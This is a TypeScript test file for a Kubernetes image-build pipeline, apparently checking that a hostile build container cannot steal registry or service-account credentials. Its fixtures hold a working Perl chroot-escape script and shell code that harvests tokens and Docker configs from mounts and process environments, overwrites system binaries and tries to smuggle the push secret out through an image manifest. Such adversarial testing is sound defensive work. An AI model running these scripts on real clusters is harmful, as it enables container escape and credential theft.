import { createHash } from 'node:crypto';
import { resolve } from 'node:path';
import { type KubernetesObject, objectsAt, textAt } from '@archipelago/apimachinery';
import { createRegistrySession, createRegistryWriter, repositoryOf } from '@archipelago/oci-registry';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { createBuildahRunner } from '../../packages/archipelago/src/simulation/actors/jobs/buildah-runner.ts';
import { containerStatuses } from '../../packages/archipelago/src/simulation/actors/jobs/container-statuses.ts';
import type { RunPod } from '../../packages/archipelago/src/simulation/actors/jobs/run-pod.ts';
import { serviceAccountLogin } from '../../packages/archipelago/src/simulation/actors/jobs/service-account-login.ts';
import { type LayeringCluster, ownImage, startLayeringCluster } from '../support/layering-cluster.ts';
import { type ImageWorld, judgeAt, openImageWorld, placeAt } from './layering-images/open-image-world.ts';
import { withShellRoot } from './registry/shell-base.ts';

// An author of a base image or of a MachineOSConfig who has all of the container that builds. What is real: buildah, the containers' roots,
// capabilities and mounts, the registries. What is not: the machine below is one of a cluster only in play.

const architecture = process.arch === 'arm64' ? 'arm64' : 'amd64';
const own = [process.execPath, resolve('bin/archipelago')];
let images: ImageWorld;
let layering: LayeringCluster;
/** Takes the place of what the container `build` runs, for the pods of a config. */
const instead = new Map<string, string>();

/** Leaves the chroot that buildah runs commands in, and hands over to the shell of the container. */
const escaping = `#!/usr/bin/perl
open my $file, "<", "/attack"; my $attack = join "", <$file>;
mkdir "/x"; chroot "/x" or die "no chroot: $!";
chdir ".." for 1..64;
chroot "." or die "no second chroot: $!";
exec "/bin/sh", "-c", $attack;
`;

/** What it does out there, which must be a container of ours and nothing else: looks for logins in all that is mounted, in all processes; replaces what runs next. */
const search = `
# nothing is done, not even looked for, where this is not the container but the machine that plays it
if ! [ -d /var/lib/store ] || ! [ -e /run/build/build.sh ] || [ "$(cut -d' ' -f5 /proc/self/mountinfo | grep -c '^/var/lib/store$')" = 0 ]; then
  echo REACHED THE MACHINE
  exit 0
fi
echo ESCAPED as $(id -u)
for place in $(cut -d' ' -f5 /proc/self/mountinfo | grep -E '^/(run|var)/' | sort -u); do
  echo "PLACE $place"
  find "$place" -xdev -type f -size -64k \\( -name config.json -o -name token -o -name '.docker*' \\) 2>/dev/null |
    grep -v /vfs/ | while read -r file; do echo "LOOT $file"; cat "$file"; done
done
for process in /proc/[0-9]*; do tr '\\0' '\\n' < $process/environ 2>/dev/null; ls $process/root/run/secrets 2>/dev/null; done
cat /var/run/secrets/kubernetes.io/serviceaccount/token 2>/dev/null
printf '#!/bin/bash\\necho REPLACED $0 RAN\\ncat /run/secrets/*/config.json\\nexit 1\\n' > /tmp/evil 2>/dev/null ||
  printf '#!/bin/bash\\necho REPLACED $0 RAN\\ncat /run/secrets/*/config.json\\nexit 1\\n' > /var/lib/store/evil
for evil in /tmp/evil /var/lib/store/evil; do
  [ -f $evil ] || continue
  chmod 755 $evil
  for target in /usr/bin/buildah /usr/bin/uname /run/build/build.sh /run/registries/ca.crt /etc/resolv.conf /etc/hosts; do
    cp $evil $target 2>/dev/null && echo "WROTE $target"
    unshare --user --map-root-user --mount sh -c "mount -o remount,bind,rw $target || mount -o remount,bind,rw \\$(dirname $target) || mount -o remount,bind,rw /; cp $evil $target" 2>/dev/null && echo "WROTE $target"
  done
done
exit 0
`;

beforeAll(async () => {
  images = await openImageWorld();
  const { builds, final, buildah } = images;
  await withShellRoot({ escape: escaping, attack: search }, (folder) =>
    buildah.buildFolder(`${builds.host}/base/os:10`, architecture, folder),
  );
  await buildah.index(`${builds.host}/base/os:index`, [`${builds.host}/base/os:10`]);
  const ca = [builds, final].map(({ caCertificate }) => caCertificate).join('\n');
  layering = await startLayeringCluster({
    architectures: [architecture],
    choices: { access: { credentials: [], ca } },
    run: ({ url, caCertificate = '' }, client) =>
      hijacked(
        createBuildahRunner({
          client,
          entrypoints: new Map([[ownImage, own]]),
          visible: [process.execPath, resolve('bin'), resolve('dist')],
          login: serviceAccountLogin({ client, url, caCertificate }),
        }),
      ),
  });
  const other = { 'other.example': 'somebody:canary of others' };
  await layering.login('base', { [builds.host]: builds.login ?? '', ...other });
  await layering.login('builds', { [builds.host]: builds.login ?? '', ...other });
  await layering.login('final', { [final.host]: final.login ?? '', ...other });
});

afterAll(async () => {
  await layering?.stop();
  await images?.close();
});

function hijacked(run: RunPod): RunPod {
  return (pod, job, signal, log) => {
    const script = [...instead].find(([config]) => job.metadata.name.startsWith(`b-${config}-`))?.[1];
    return run(script === undefined ? pod : withBuild(pod, script), job, signal, log);
  };
}

/** All of the container is somebody else's: the worst that an escape comes to. */
function withBuild(pod: KubernetesObject, script: string): KubernetesObject {
  const containers = objectsAt(pod, 'spec', 'initContainers').map((container) =>
    container.name === 'build' ? { ...container, command: ['/bin/sh', '-c', script] } : container,
  );
  return { ...pod, spec: { ...Object(pod.spec), initContainers: containers } };
}

async function built(config: string, content: string) {
  const { builds, final } = images;
  await layering.createConfig(config, {
    baseImage: `${builds.host}/base/os:index`,
    baseImagePullSecret: { name: 'base' },
    renderedImagePushSpec: `${final.host}/os/${config}:latest`,
    renderedImagePushSecret: { name: 'final' },
    intermediate: { repository: `${builds.host}/os/${config}`, pushSecret: { name: 'builds' } },
    containerFile: [{ content }],
    build: { attempts: 1 },
  });
  const build = await layering.built(config);
  const pods = (await layering.pods()).filter(({ metadata }) => metadata.name.includes(`-${config}-`));
  return { build, pods, logs: (await Promise.all(pods.map(logsOf))).flat() };
}

async function logsOf(pod: KubernetesObject) {
  const names = containerStatuses(pod).map((one) => textAt(one, 'name'));
  return await Promise.all(
    names.map(async (container) => {
      const { namespace, name } = pod.metadata;
      const path = `/api/v1/namespaces/${namespace}/pods/${name}/log?container=${container}`;
      const read = await layering.client.raw({ method: 'GET', path });
      return { container, text: read.ok ? String(read.value) : '' };
    }),
  );
}

function textOf(
  logs: readonly { readonly container: string; readonly text: string }[],
  name: string,
): string {
  return logs
    .filter(({ container }) => container === name)
    .map(({ text }) => text)
    .join('');
}

/** Everything that would be worth stealing, as it is and as files have it. */
function canaries(): readonly string[] {
  const logins = [images.builds.login ?? '', images.final.login ?? '', 'somebody:canary of others'];
  return logins.flatMap((login) => [
    login.slice(login.indexOf(':') + 1),
    Buffer.from(login).toString('base64'),
  ]);
}

function expectNoCanary(text: string): void {
  for (const canary of canaries()) expect(text).not.toContain(canary);
  // the begin of every token of a service account
  expect(text).not.toContain('eyJhbGci');
}

it('a command that escapes finds no login, and nothing that it replaces is run', async () => {
  const { build, logs } = await built('escape', 'RUN /escape\n');
  const said = textOf(logs, 'build');
  expect(said).toContain('ESCAPED as 0');
  expect(said).toContain('PLACE /var/lib/store');
  expect(said).not.toContain('WROTE');
  const all = logs.map(({ text }) => text).join('\n');
  expect(all).not.toMatch(/REPLACED \S+ RAN/);
  expectNoCanary(all);
  expect(build.status).toMatchObject({ phase: 'Succeeded' });
  const image = `${images.final.host}/os/escape:${build.metadata.name}`;
  expectNoCanary(await images.skopeo.contentOf(image, judgeAt(images.final)));
});

it('who has all of the container that builds gets no login pushed, and none of its files run', async () => {
  const { builds } = images;
  const auths = Object.fromEntries(
    [
      [builds.host, builds.login ?? ''],
      ['other.example', 'somebody:canary of others'],
    ].map(([host, login = '']) => [host, { auth: Buffer.from(login).toString('base64') }]),
  );
  // more than anybody out there could know: which digest and size the login has
  const login = JSON.stringify({ auths });
  const hex = createHash('sha256').update(login).digest('hex');
  const descriptor = `{"mediaType":"application/vnd.oci.image.layer.v1.tar","digest":"sha256:${hex}","size":${login.length}}`;
  const manifest = `{"schemaVersion":2,"mediaType":"application/vnd.oci.image.manifest.v1+json","config":${descriptor},"layers":[]}`;
  instead.set(
    'hostile',
    `${search}
ln -s /run/secrets/push/config.json /run/image/${hex}
printf '%s' '${manifest}' > /run/image/manifest.json
for place in /run/image /var/lib/store /run/results /run/login /run/secrets/push; do
  for name in config.json digest machine fetch.sh build.sh sh buildah uname node archipelago; do
    cp /var/lib/store/evil "$place/$name" 2>/dev/null && echo "PLANTED $place/$name"
  done
done
exit 0
`.replace('\nexit 0\n', '\n'),
  );
  const { build, pods, logs } = await built('hostile', 'LABEL a=b\n');
  const said = textOf(logs, 'build');
  expect(said).toContain('PLANTED /run/image/sh');
  expect(said).not.toMatch(/PLANTED \/run\/(results|login|secrets)/);
  expect(said).not.toContain('WROTE');
  const all = logs.map(({ text }) => text).join('\n');
  expect(all).not.toMatch(/REPLACED \S+ RAN/);
  expectNoCanary(all);
  expect(textOf(logs, 'push')).toContain('is no regular file');
  expect(build.status).toMatchObject({ phase: 'Failed' });
  const failed = pods.flatMap((pod) => containerStatuses(pod)).find(({ name }) => name === 'push');
  expect(failed).toMatchObject({ state: { terminated: { exitCode: 1 } } });
  const session = createRegistrySession();
  const place = repositoryOf(placeAt(builds, 'os/hostile:any'));
  const pushed = await createRegistryWriter(session).hasBlob(place, {
    digest: `sha256:${hex}`,
    size: login.length,
  });
  session.transport.close();
  expect(pushed).toMatchObject({ kind: 'ok', value: false });
});
